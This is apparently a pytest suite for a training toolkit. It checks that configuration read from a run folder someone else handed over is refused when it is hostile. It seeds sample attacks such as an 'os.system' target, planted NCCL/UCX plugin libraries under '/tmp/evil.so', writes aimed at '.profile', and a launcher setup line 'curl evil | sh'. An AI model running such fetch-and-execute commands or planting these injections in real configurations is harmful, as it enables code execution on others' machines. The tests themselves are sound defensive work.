"""What comes from a run folder is data: nothing of it is imported, executed or loaded unless it is typed again."""

import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from diagnostics.contract.artifacts import RunPaths, Status, write_json
from dtk.config.compose import compose
from dtk.config.resume import rerun, resume
from dtk.config.trust import check_entries, check_owner
from dtk.errors import DtkError


@pytest.fixture
def folder(tmp_path: Path) -> RunPaths:
    """A run folder as dtk writes it, with a configuration that can be changed by `poison`."""
    paths = RunPaths(tmp_path / "run")
    paths.root.mkdir(mode=0o755)
    plain = compose(["model=gpt2_tiny", f"runs_folder={tmp_path}"], None, traced=True).plain
    paths.config.write_text(yaml.safe_dump(plain))
    paths.overrides.write_text("[]")
    write_json(paths.status, Status(state="preempted", attempt=0, started="", updated=""))
    return paths


def poison(paths: RunPaths, **sections: dict[str, object]) -> None:
    plain = yaml.safe_load(paths.config.read_text())
    for name, values in sections.items():
        plain[name] = {**plain[name], **values} if isinstance(values, dict) else values
    paths.config.write_text(yaml.safe_dump(plain))


def test_targets_that_the_folder_allows_do_not_count(folder: RunPaths) -> None:
    plain = yaml.safe_load(folder.config.read_text())
    plain["model"] = {
        "name": "custom",
        "architecture": "custom",
        "_target_": "os.system",
        "arguments": {"command": "touch owned"},
    }
    plain["allow_targets"] = ["os.*"]
    folder.config.write_text(yaml.safe_dump(plain))
    assert rerun(folder.root, [], None).composed.config.allow_targets == []
    again = rerun(folder.root, ["allow_targets=[my_package.*]"], None)
    assert again.composed.config.allow_targets == ["my_package.*"]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("NCCL_NET_PLUGIN", "/tmp/evil.so"),
        ("NCCL_TUNER_PLUGIN", "./evil.so"),
        ("NCCL_DEBUG_FILE", "/home/me/.profile"),
        ("NCCL_DEBUG_FILE", "{run}/../../.profile"),
        ("FI_PROVIDER_PATH", "/tmp/evil"),
        ("UCX_MODULE_DIR", "/tmp/evil"),
        ("HSA_TOOLS_LIB", "/tmp/evil.so"),
        ("NCCL_DEBUG_FILE", "train.py"),
        ("TORCH_FR_DUMP_TEMP_FILE", "train.py"),
        ("NVSHMEM_BOOTSTRAP_PLUGIN", "10.0.0.0/8/evil.so"),
    ],
)
def test_libraries_and_files_of_the_folder_are_refused(folder: RunPaths, name: str, value: str) -> None:
    poison(folder, nccl={"variables": {name: value}})
    with pytest.raises(DtkError, match=rf"its nccl\.variables\.{name} names"):
        rerun(folder.root, [], None)
    kept = rerun(folder.root, [f'nccl.variables.{name}="{value}"'], None)
    assert kept.composed.config.nccl.variables[name] == value


@pytest.mark.parametrize(
    ("key", "value"), [("topo_file", "{topo_file}"), ("hca", "{hca?}"), ("interface", "{run}{interface}")]
)
def test_a_key_that_stands_in_a_variable_is_looked_at_in_it(folder: RunPaths, key: str, value: str) -> None:
    poison(folder, nccl={key: "/../tmp/evil.so", "variables": {"NCCL_NET_PLUGIN": value}})
    with pytest.raises(DtkError, match=r"its nccl\.variables\.NCCL_NET_PLUGIN names a path"):
        rerun(folder.root, [], None)


def test_a_library_in_the_folder_itself_is_refused(folder: RunPaths) -> None:
    """For `resume=`, `{run}` is the folder that somebody handed over."""
    poison(folder, nccl={"variables": {"UCX_MODULE_DIR": "{run}/lib"}})
    with pytest.raises(DtkError, match=r"its nccl\.variables\.UCX_MODULE_DIR names a path"):
        resume(compose([f"resume={folder.root}"], None, traced=True), None)


def test_what_dtk_itself_puts_into_a_folder_is_taken(folder: RunPaths) -> None:
    variables = {"NCCL_DEBUG_FILE": "{run}/nccl.%h.%p.log", "NCCL_NET_PLUGIN": "none", "NCCL_TOPO_FILE": "{topo_file?}"}
    variables |= {"TORCH_FR_DUMP_TEMP_FILE": "{run}/flight/watchdog_rank_", "NCCL_TOPO_DUMP_FILE": "{run}/x.xml"}
    ranges = {"NCCL_IB_ADDR_RANGE": "10.1.0.0/16", "GLOO_X": "fd00::/8,10.0.0.0/8"}
    poison(folder, nccl={"variables": variables | ranges, "topo_file": "/opt/topology.xml"})
    assert rerun(folder.root, [], None).composed.config.nccl.variables["NCCL_NET_PLUGIN"] == "none"


@pytest.mark.parametrize(
    ("nccl", "name"),
    [
        ({"variables": {"GLOO_SOCKET_IFNAME": "eth0"}}, "GLOO_SOCKET_IFNAME"),
        ({"variables": {"NCCL_COMM_ID": "192.0.2.7:4000"}}, "NCCL_COMM_ID"),
        ({"variables": {"NCCL_SOCKET_IFNAME": "={interface?}"}, "interface": "eth0"}, "NCCL_SOCKET_IFNAME"),
    ],
)
def test_a_folder_does_not_open_the_ranks_of_one_machine_to_others(
    folder: RunPaths, nccl: dict[str, Any], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    poison(folder, nccl=nccl)
    with pytest.raises(DtkError, match=rf"its nccl\.variables\.{name} names an address that other machines can reach"):
        rerun(folder.root, [], None)
    assert rerun(folder.root, ["nccl=auto"], None).composed.config.nccl.name == "auto"
    value = nccl["variables"][name]
    kept = rerun(folder.root, [f'nccl.variables.{name}="{value}"'], None).composed.config.nccl
    assert kept.variables[name] == value
    monkeypatch.setenv("WORLD_SIZE", "16")
    monkeypatch.setenv("LOCAL_WORLD_SIZE", "8")
    assert rerun(folder.root, [], None).composed.config.nccl.variables[name] == value  # Several nodes need one.


@pytest.mark.parametrize("interface", [None, "lo"])
def test_loopback_in_a_folder_is_taken(folder: RunPaths, interface: str | None) -> None:
    poison(folder, nccl={"variables": {"GLOO_SOCKET_IFNAME": "{interface?}"}, "interface": interface})
    assert rerun(folder.root, [], None).composed.config.nccl.interface == interface


def test_commands_of_the_folder_are_refused(folder: RunPaths) -> None:
    plain = yaml.safe_load(folder.config.read_text())
    slurm = compose(["model=gpt2_tiny", "launcher=slurm", "launcher.gpus_per_node=2"], None, traced=True).plain
    plain["launcher"] = {**slurm["launcher"], "setup": ["curl evil | sh"]}
    folder.config.write_text(yaml.safe_dump(plain))
    with pytest.raises(DtkError, match=r"its launcher\.setup would be executed"):
        rerun(folder.root, [], None)
    assert rerun(folder.root, ["launcher=local"], None).composed.config.launcher.name == "local"


@pytest.mark.parametrize("mode", [0o777, 0o775])
def test_a_folder_that_others_can_write_to_needs_trust(folder: RunPaths, mode: int) -> None:
    folder.root.chmod(mode)
    with pytest.raises(DtkError, match="can write to the folder"):
        rerun(folder.root, [], None)
    with pytest.raises(DtkError, match="can write to the folder"):
        resume(compose([f"resume={folder.root}"], None, traced=True), None)
    assert rerun(folder.root, [], None, trust=True).composed.config.model.name == "gpt2_tiny"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder to another user")
def test_a_folder_of_another_user_needs_trust(folder: RunPaths) -> None:
    os.chown(folder.root, 65534, 65534)
    with pytest.raises(DtkError, match="belongs to"):
        check_owner(folder.root, "--rerun", trust=False)
    check_owner(folder.root, "--rerun", trust=True)


@pytest.mark.parametrize("name", ["config.yaml", "overrides.yaml"])
def test_a_file_that_others_can_change_needs_trust(folder: RunPaths, name: str) -> None:
    (folder.root / name).chmod(0o664)  # What a umask of 002 makes.
    check_owner(folder.root, "--rerun", trust=False)
    (folder.root / name).chmod(0o666)
    with pytest.raises(DtkError, match=f"its {name} can be written by everybody"):
        check_owner(folder.root, "--rerun", trust=False)
    if os.geteuid() == 0:
        os.chown(folder.root / name, 65534, 65534)
        with pytest.raises(DtkError, match=f"its {name} belongs to"):
            check_owner(folder.root, "--rerun", trust=False)


@pytest.mark.parametrize(
    "name", ["metrics.jsonl", "logs", "checkpoints/.partial_step_4", "tensorboard", "events/wandb"]
)
@pytest.mark.parametrize("kind", ["link", "pipe"])
def test_nothing_is_written_through_a_link_or_into_a_pipe(
    folder: RunPaths, tmp_path: Path, name: str, kind: str
) -> None:
    path = folder.root / name
    path.parent.mkdir(exist_ok=True)
    (folder.root / "wandb").mkdir()
    (folder.root / "wandb" / "debug.log").symlink_to(tmp_path / "cache.log")
    (folder.root / "latest").symlink_to("status.json")
    composed = compose([f"resume={folder.root}"], None, traced=True)
    resume(composed, None)
    path.symlink_to(tmp_path / "elsewhere") if kind == "link" else os.mkfifo(path)
    with pytest.raises(DtkError, match=f"{name} is .* - remove it, or add --trust"):
        resume(composed, None)
    resume(composed, None, trust=True)


def test_a_folder_to_write_to_that_the_folder_names_is_refused(folder: RunPaths, tmp_path: Path) -> None:
    poison(folder, strategy={"offload": "optimizer", "offload_to": "nvme", "offload_folder": "/home/me/.config"})
    said = r"its strategy\.offload_folder names a folder outside it to write to: /home/me/\.config"
    with pytest.raises(DtkError, match=said):
        rerun(folder.root, [], None)
    with pytest.raises(DtkError, match=said):
        resume(compose([f"resume={folder.root}"], None, traced=True), None)
    again = rerun(folder.root, [f"strategy.offload_folder={tmp_path}"], None)
    assert again.composed.config.strategy.offload_folder == str(tmp_path)


def test_a_folder_that_the_own_configuration_names_too_is_taken(folder: RunPaths, tmp_path: Path) -> None:
    poison(folder, strategy={"offload": "optimizer", "offload_to": "nvme", "offload_folder": str(tmp_path)})
    own = ["strategy.offload=optimizer", "strategy.offload_to=nvme", f"strategy.offload_folder={tmp_path}"]
    trial = compose([*own, f"resume={folder.root}"], None, traced=True)
    assert resume(replace(trial, overrides=[]), None).composed.config.strategy.offload_folder == str(tmp_path)


@pytest.mark.parametrize("kind", ["hard link", "link", "pipe"])
def test_a_folder_that_is_continued_writes_nowhere_else(folder: RunPaths, tmp_path: Path, kind: str) -> None:
    kept = tmp_path / "kept.jsonl"
    kept.write_text("kept\n")
    if kind == "hard link":
        os.link(kept, folder.metrics)
    elif kind == "link":
        folder.metrics.symlink_to(kept)
    else:
        os.mkfifo(folder.metrics)
    with pytest.raises(DtkError, match=r"metrics\.jsonl is (a link|not a regular file)"):
        resume(compose([f"resume={folder.root}"], None, traced=True), None)
    check_entries(folder.root, "resume=", trust=True)
